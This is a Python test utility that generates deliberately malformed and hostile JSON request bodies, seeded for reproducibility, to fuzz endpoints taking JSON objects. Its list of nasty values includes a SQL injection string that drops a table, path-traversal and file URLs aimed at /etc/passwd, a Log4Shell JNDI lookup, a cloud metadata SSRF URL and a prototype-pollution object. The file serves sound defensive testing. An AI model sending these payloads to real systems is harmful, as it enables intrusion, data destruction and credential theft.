"""Bodies that nobody honest sends, for any endpoint that takes a JSON object. The same seed gives the same bodies."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum
from random import Random
from typing import Any, Final

Json = dict[str, Any]
Path = tuple[str | int, ...]


class Malice(StrEnum):
    """What is wrong with a body."""

    MALFORMED = "malformed"  # not JSON
    NO_OBJECT = "no_object"  # JSON, but no object
    HUGE = "huge"  # beyond every limit
    DEEP = "deep"  # nested deeper than any parser goes
    WRONG_TYPE = "wrong_type"  # the example, with one value of another JSON type
    NOISE = "noise"  # random bytes
    RANDOM = "random"  # an object of random names and values, some of them the example's


@dataclass(frozen=True, slots=True)
class Hostile:
    """A body and what is wrong with it; ``path`` is where, if it is one place."""

    malice: Malice
    body: bytes
    path: Path = ()


MALFORMED: Final = (
    b"",
    b" ",
    b"{",
    b'{"type":"message"',
    b'{"type":"message",}',
    b"{'type':'message'}",
    b'{"type":"message"}{"type":"message"}',
    b'{"type":NaN}',
    b'{"type":-Infinity}',
    b'{"type":01}',
    b'{"type":"\xff\xfe"}',
    b'{"type":"\xc0\xaf"}',
    b'{"type":"\xed\xa0\x80"}',
    b'{"type":"\\ud800"}',
    b'{"type":"\\x41"}',
    b'{"type":"a\x00b"}',
    b'{"type":"line\nbreak"}',
    b'\xef\xbb\xbf{"type":"message"}',
    b'{"type":"message"}\x00',
    b"type=message&text=hi",
    b"<activity/>",
    b"\x1f\x8b\x08\x00gzip",
)
NO_OBJECT: Final = (b"null", b"true", b"0", b"-0.0", b"1e400", b'"message"', b"[]", b'[{"type":"message"}]', b'""')
NASTY: Final[tuple[Any, ...]] = (
    True,
    False,
    0,
    -1,
    2**63,
    -(2**63) - 1,
    10**400,
    1.5,
    1e308,
    [],
    {},
    [[]],
    [None],
    {"": None},
    {"$gt": ""},
    {"__proto__": {"x": 1}},
    "",
    " ",
    "\x00",
    "a\x00b",
    "A" * 20_000,
    "\U0001f4a9" * 5_000,
    "\u202e\u2066",
    "' OR 1=1; DROP TABLE deliveries; --",
    "../../../../etc/passwd",
    "%00%2e%2e%2f",
    "${jndi:ldap://198.51.100.7/x}",
    "http://169.254.169.254/latest/meta-data/",
    "http://198.51.100.7:9/",
    "file:///etc/passwd",
)


def bodies(example: Json, *, seed: int, limit: int, malice: Malice) -> Iterator[Hostile]:
    """Bodies of one kind of malice, without end. ``limit`` is the endpoint's, in bytes; ``example`` an honest body."""
    random = Random(seed)
    while True:
        yield _one(malice, example, random, limit)


def _one(malice: Malice, example: Json, random: Random, limit: int) -> Hostile:
    match malice:
        case Malice.MALFORMED:
            return Hostile(malice, random.choice(MALFORMED) if random.random() < 0.6 else _cut(example, random))
        case Malice.NO_OBJECT:
            return Hostile(malice, random.choice(NO_OBJECT))
        case Malice.HUGE:
            return Hostile(malice, _huge(example, random, limit))
        case Malice.DEEP:
            return Hostile(malice, _deep(example, random))
        case Malice.WRONG_TYPE:
            return _wrong_type(example, random)
        case Malice.NOISE:
            return Hostile(malice, random.randbytes(random.randint(1, 400)))
        case Malice.RANDOM:
            return Hostile(malice, _random(example, random))


def _cut(example: Json, random: Random) -> bytes:
    whole = json.dumps(example).encode()
    return whole[: random.randrange(1, len(whole))]


def _huge(example: Json, random: Random, limit: int) -> bytes:
    filler: Any = random.choice(["x" * limit, ["x"] * (limit // 4), {"x" * limit: 1}, "\x00" * limit])
    return json.dumps({**example, random.choice([*example, "more"]): filler}).encode()


def _deep(example: Json, random: Random) -> bytes:
    depth = random.choice([1_025, 5_000, 50_000])
    opening, closing = random.choice([("[", "]"), ('{"a":', "}")])
    nest = opening * depth + ("1" if opening != "[" else "") + closing * depth
    field = json.dumps(random.choice([*example, "more"]))
    rest = json.dumps({name: value for name, value in example.items() if json.dumps(name) != field})[1:]
    return f"{{{field}:{nest},{rest}".encode() if rest != "}" else f"{{{field}:{nest}}}".encode()


def _wrong_type(example: Json, random: Random) -> Hostile:
    path = random.choice(sorted(_paths(example), key=str))
    kind = _json_type(_at(example, path))
    value = random.choice([nasty for nasty in NASTY if _json_type(nasty) != kind])
    return Hostile(Malice.WRONG_TYPE, json.dumps(_put(example, path, value)).encode(), path)


def _random(example: Json, random: Random) -> bytes:
    names = [*example, "", "type", "id", "\x00", "__class__", "channelData", "entities", "$ref"]
    made = {random.choice(names): _value(random, 0) for _ in range(random.randint(0, 6))}
    base = copy.deepcopy(example) if random.random() < 0.5 else {}
    return json.dumps({**base, **made}).encode()


def _value(random: Random, depth: int) -> Any:
    if depth > 4 or random.random() < 0.5:
        return random.choice(NASTY)
    inner = [_value(random, depth + 1) for _ in range(random.randint(0, 3))]
    return inner if random.random() < 0.5 else {random.choice(["id", "type", "tenant", "x", ""]): one for one in inner}


def _paths(value: Any, so_far: Path = ()) -> Iterator[Path]:
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, below in inner:
        yield (*so_far, key)
        yield from _paths(below, (*so_far, key))


def _at(value: Any, path: Path) -> Any:
    for key in path:
        value = value[key]
    return value


def _put(example: Json, path: Path, value: Any) -> Json:
    whole = copy.deepcopy(example)
    _at(whole, path[:-1])[path[-1]] = value
    return whole


def _json_type(value: Any) -> str:
    if isinstance(value, bool):
        return "boolean"
    return {dict: "object", list: "array", str: "string", int: "number", float: "number"}.get(type(value), "null")
